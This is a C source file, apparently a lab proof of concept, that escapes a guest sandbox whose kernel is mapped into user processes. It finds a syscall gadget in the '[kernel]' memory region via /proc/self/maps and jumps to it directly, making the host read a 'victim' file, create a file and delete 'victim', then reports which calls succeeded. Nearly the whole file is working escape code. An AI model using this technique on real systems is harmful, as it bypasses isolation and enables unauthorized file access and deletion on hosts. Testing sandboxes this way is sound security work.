// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * Runs in the lab's guest, with the kernel in its programs' processes: makes system calls of
 * the host past the guest's kernel, by a jump to that one's own code. Prints which of them
 * the host did.
 */

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>

/* "syscall; cmp $-4095, %rax; jae 1f; ret; 1:", the end of syscall() of the C library that the
   kernel is linked with */
static const unsigned char wanted[] = {
	0x0f, 0x05, 0x48, 0x3d, 0x01, 0xf0, 0xff, 0xff, 0x73, 0x01, 0xc3
};
static const void *in_kernel;

static const char *host_call(long nr, const void *one, long two, long three)
{
	register long r10 asm("r10") = 0;
	long result;

	/* It returns by `ret`, or by way of writing errno, into thread-local storage of ours */
	asm volatile("call *%[where]"
		     : "=a"(result)
		     : [where] "r"(in_kernel), "0"(nr), "D"(one), "S"(two), "d"(three), "r"(r10)
		     : "rcx", "r8", "r9", "r11", "memory");
	return result >= 0 ? "yes" : "no";
}

static void find_call(void)
{
	unsigned long start, end, at;
	char line[512];
	FILE *maps = fopen("/proc/self/maps", "r");

	while (fgets(line, sizeof(line), maps))
		if (strstr(line, "[kernel]") && sscanf(line, "%lx-%lx", &start, &end) == 2)
			/* The code begins a page or two behind the stack below it */
			for (at = start + 0x20000; at < start + 0x1000000; at++)
				if (!memcmp((void *)at, wanted, sizeof(wanted))) {
					in_kernel = (void *)at;
					return;
				}
	puts("no system call found");
	exit(1);
}

int main(int argc, char **argv)
{
	char path[4096];

	(void)argc;
	find_call();
	snprintf(path, sizeof(path), "%s/victim", argv[1]);
	printf("read: %s\n", host_call(SYS_open, path, O_RDONLY, 0));
	snprintf(path, sizeof(path), "%s/f", argv[1]);
	printf("create: %s\n", host_call(SYS_open, path, O_WRONLY | O_CREAT, 0644));
	snprintf(path, sizeof(path), "%s/victim", argv[1]);
	printf("remove: %s\n", host_call(SYS_unlink, path, 0, 0));
	return 0;
}
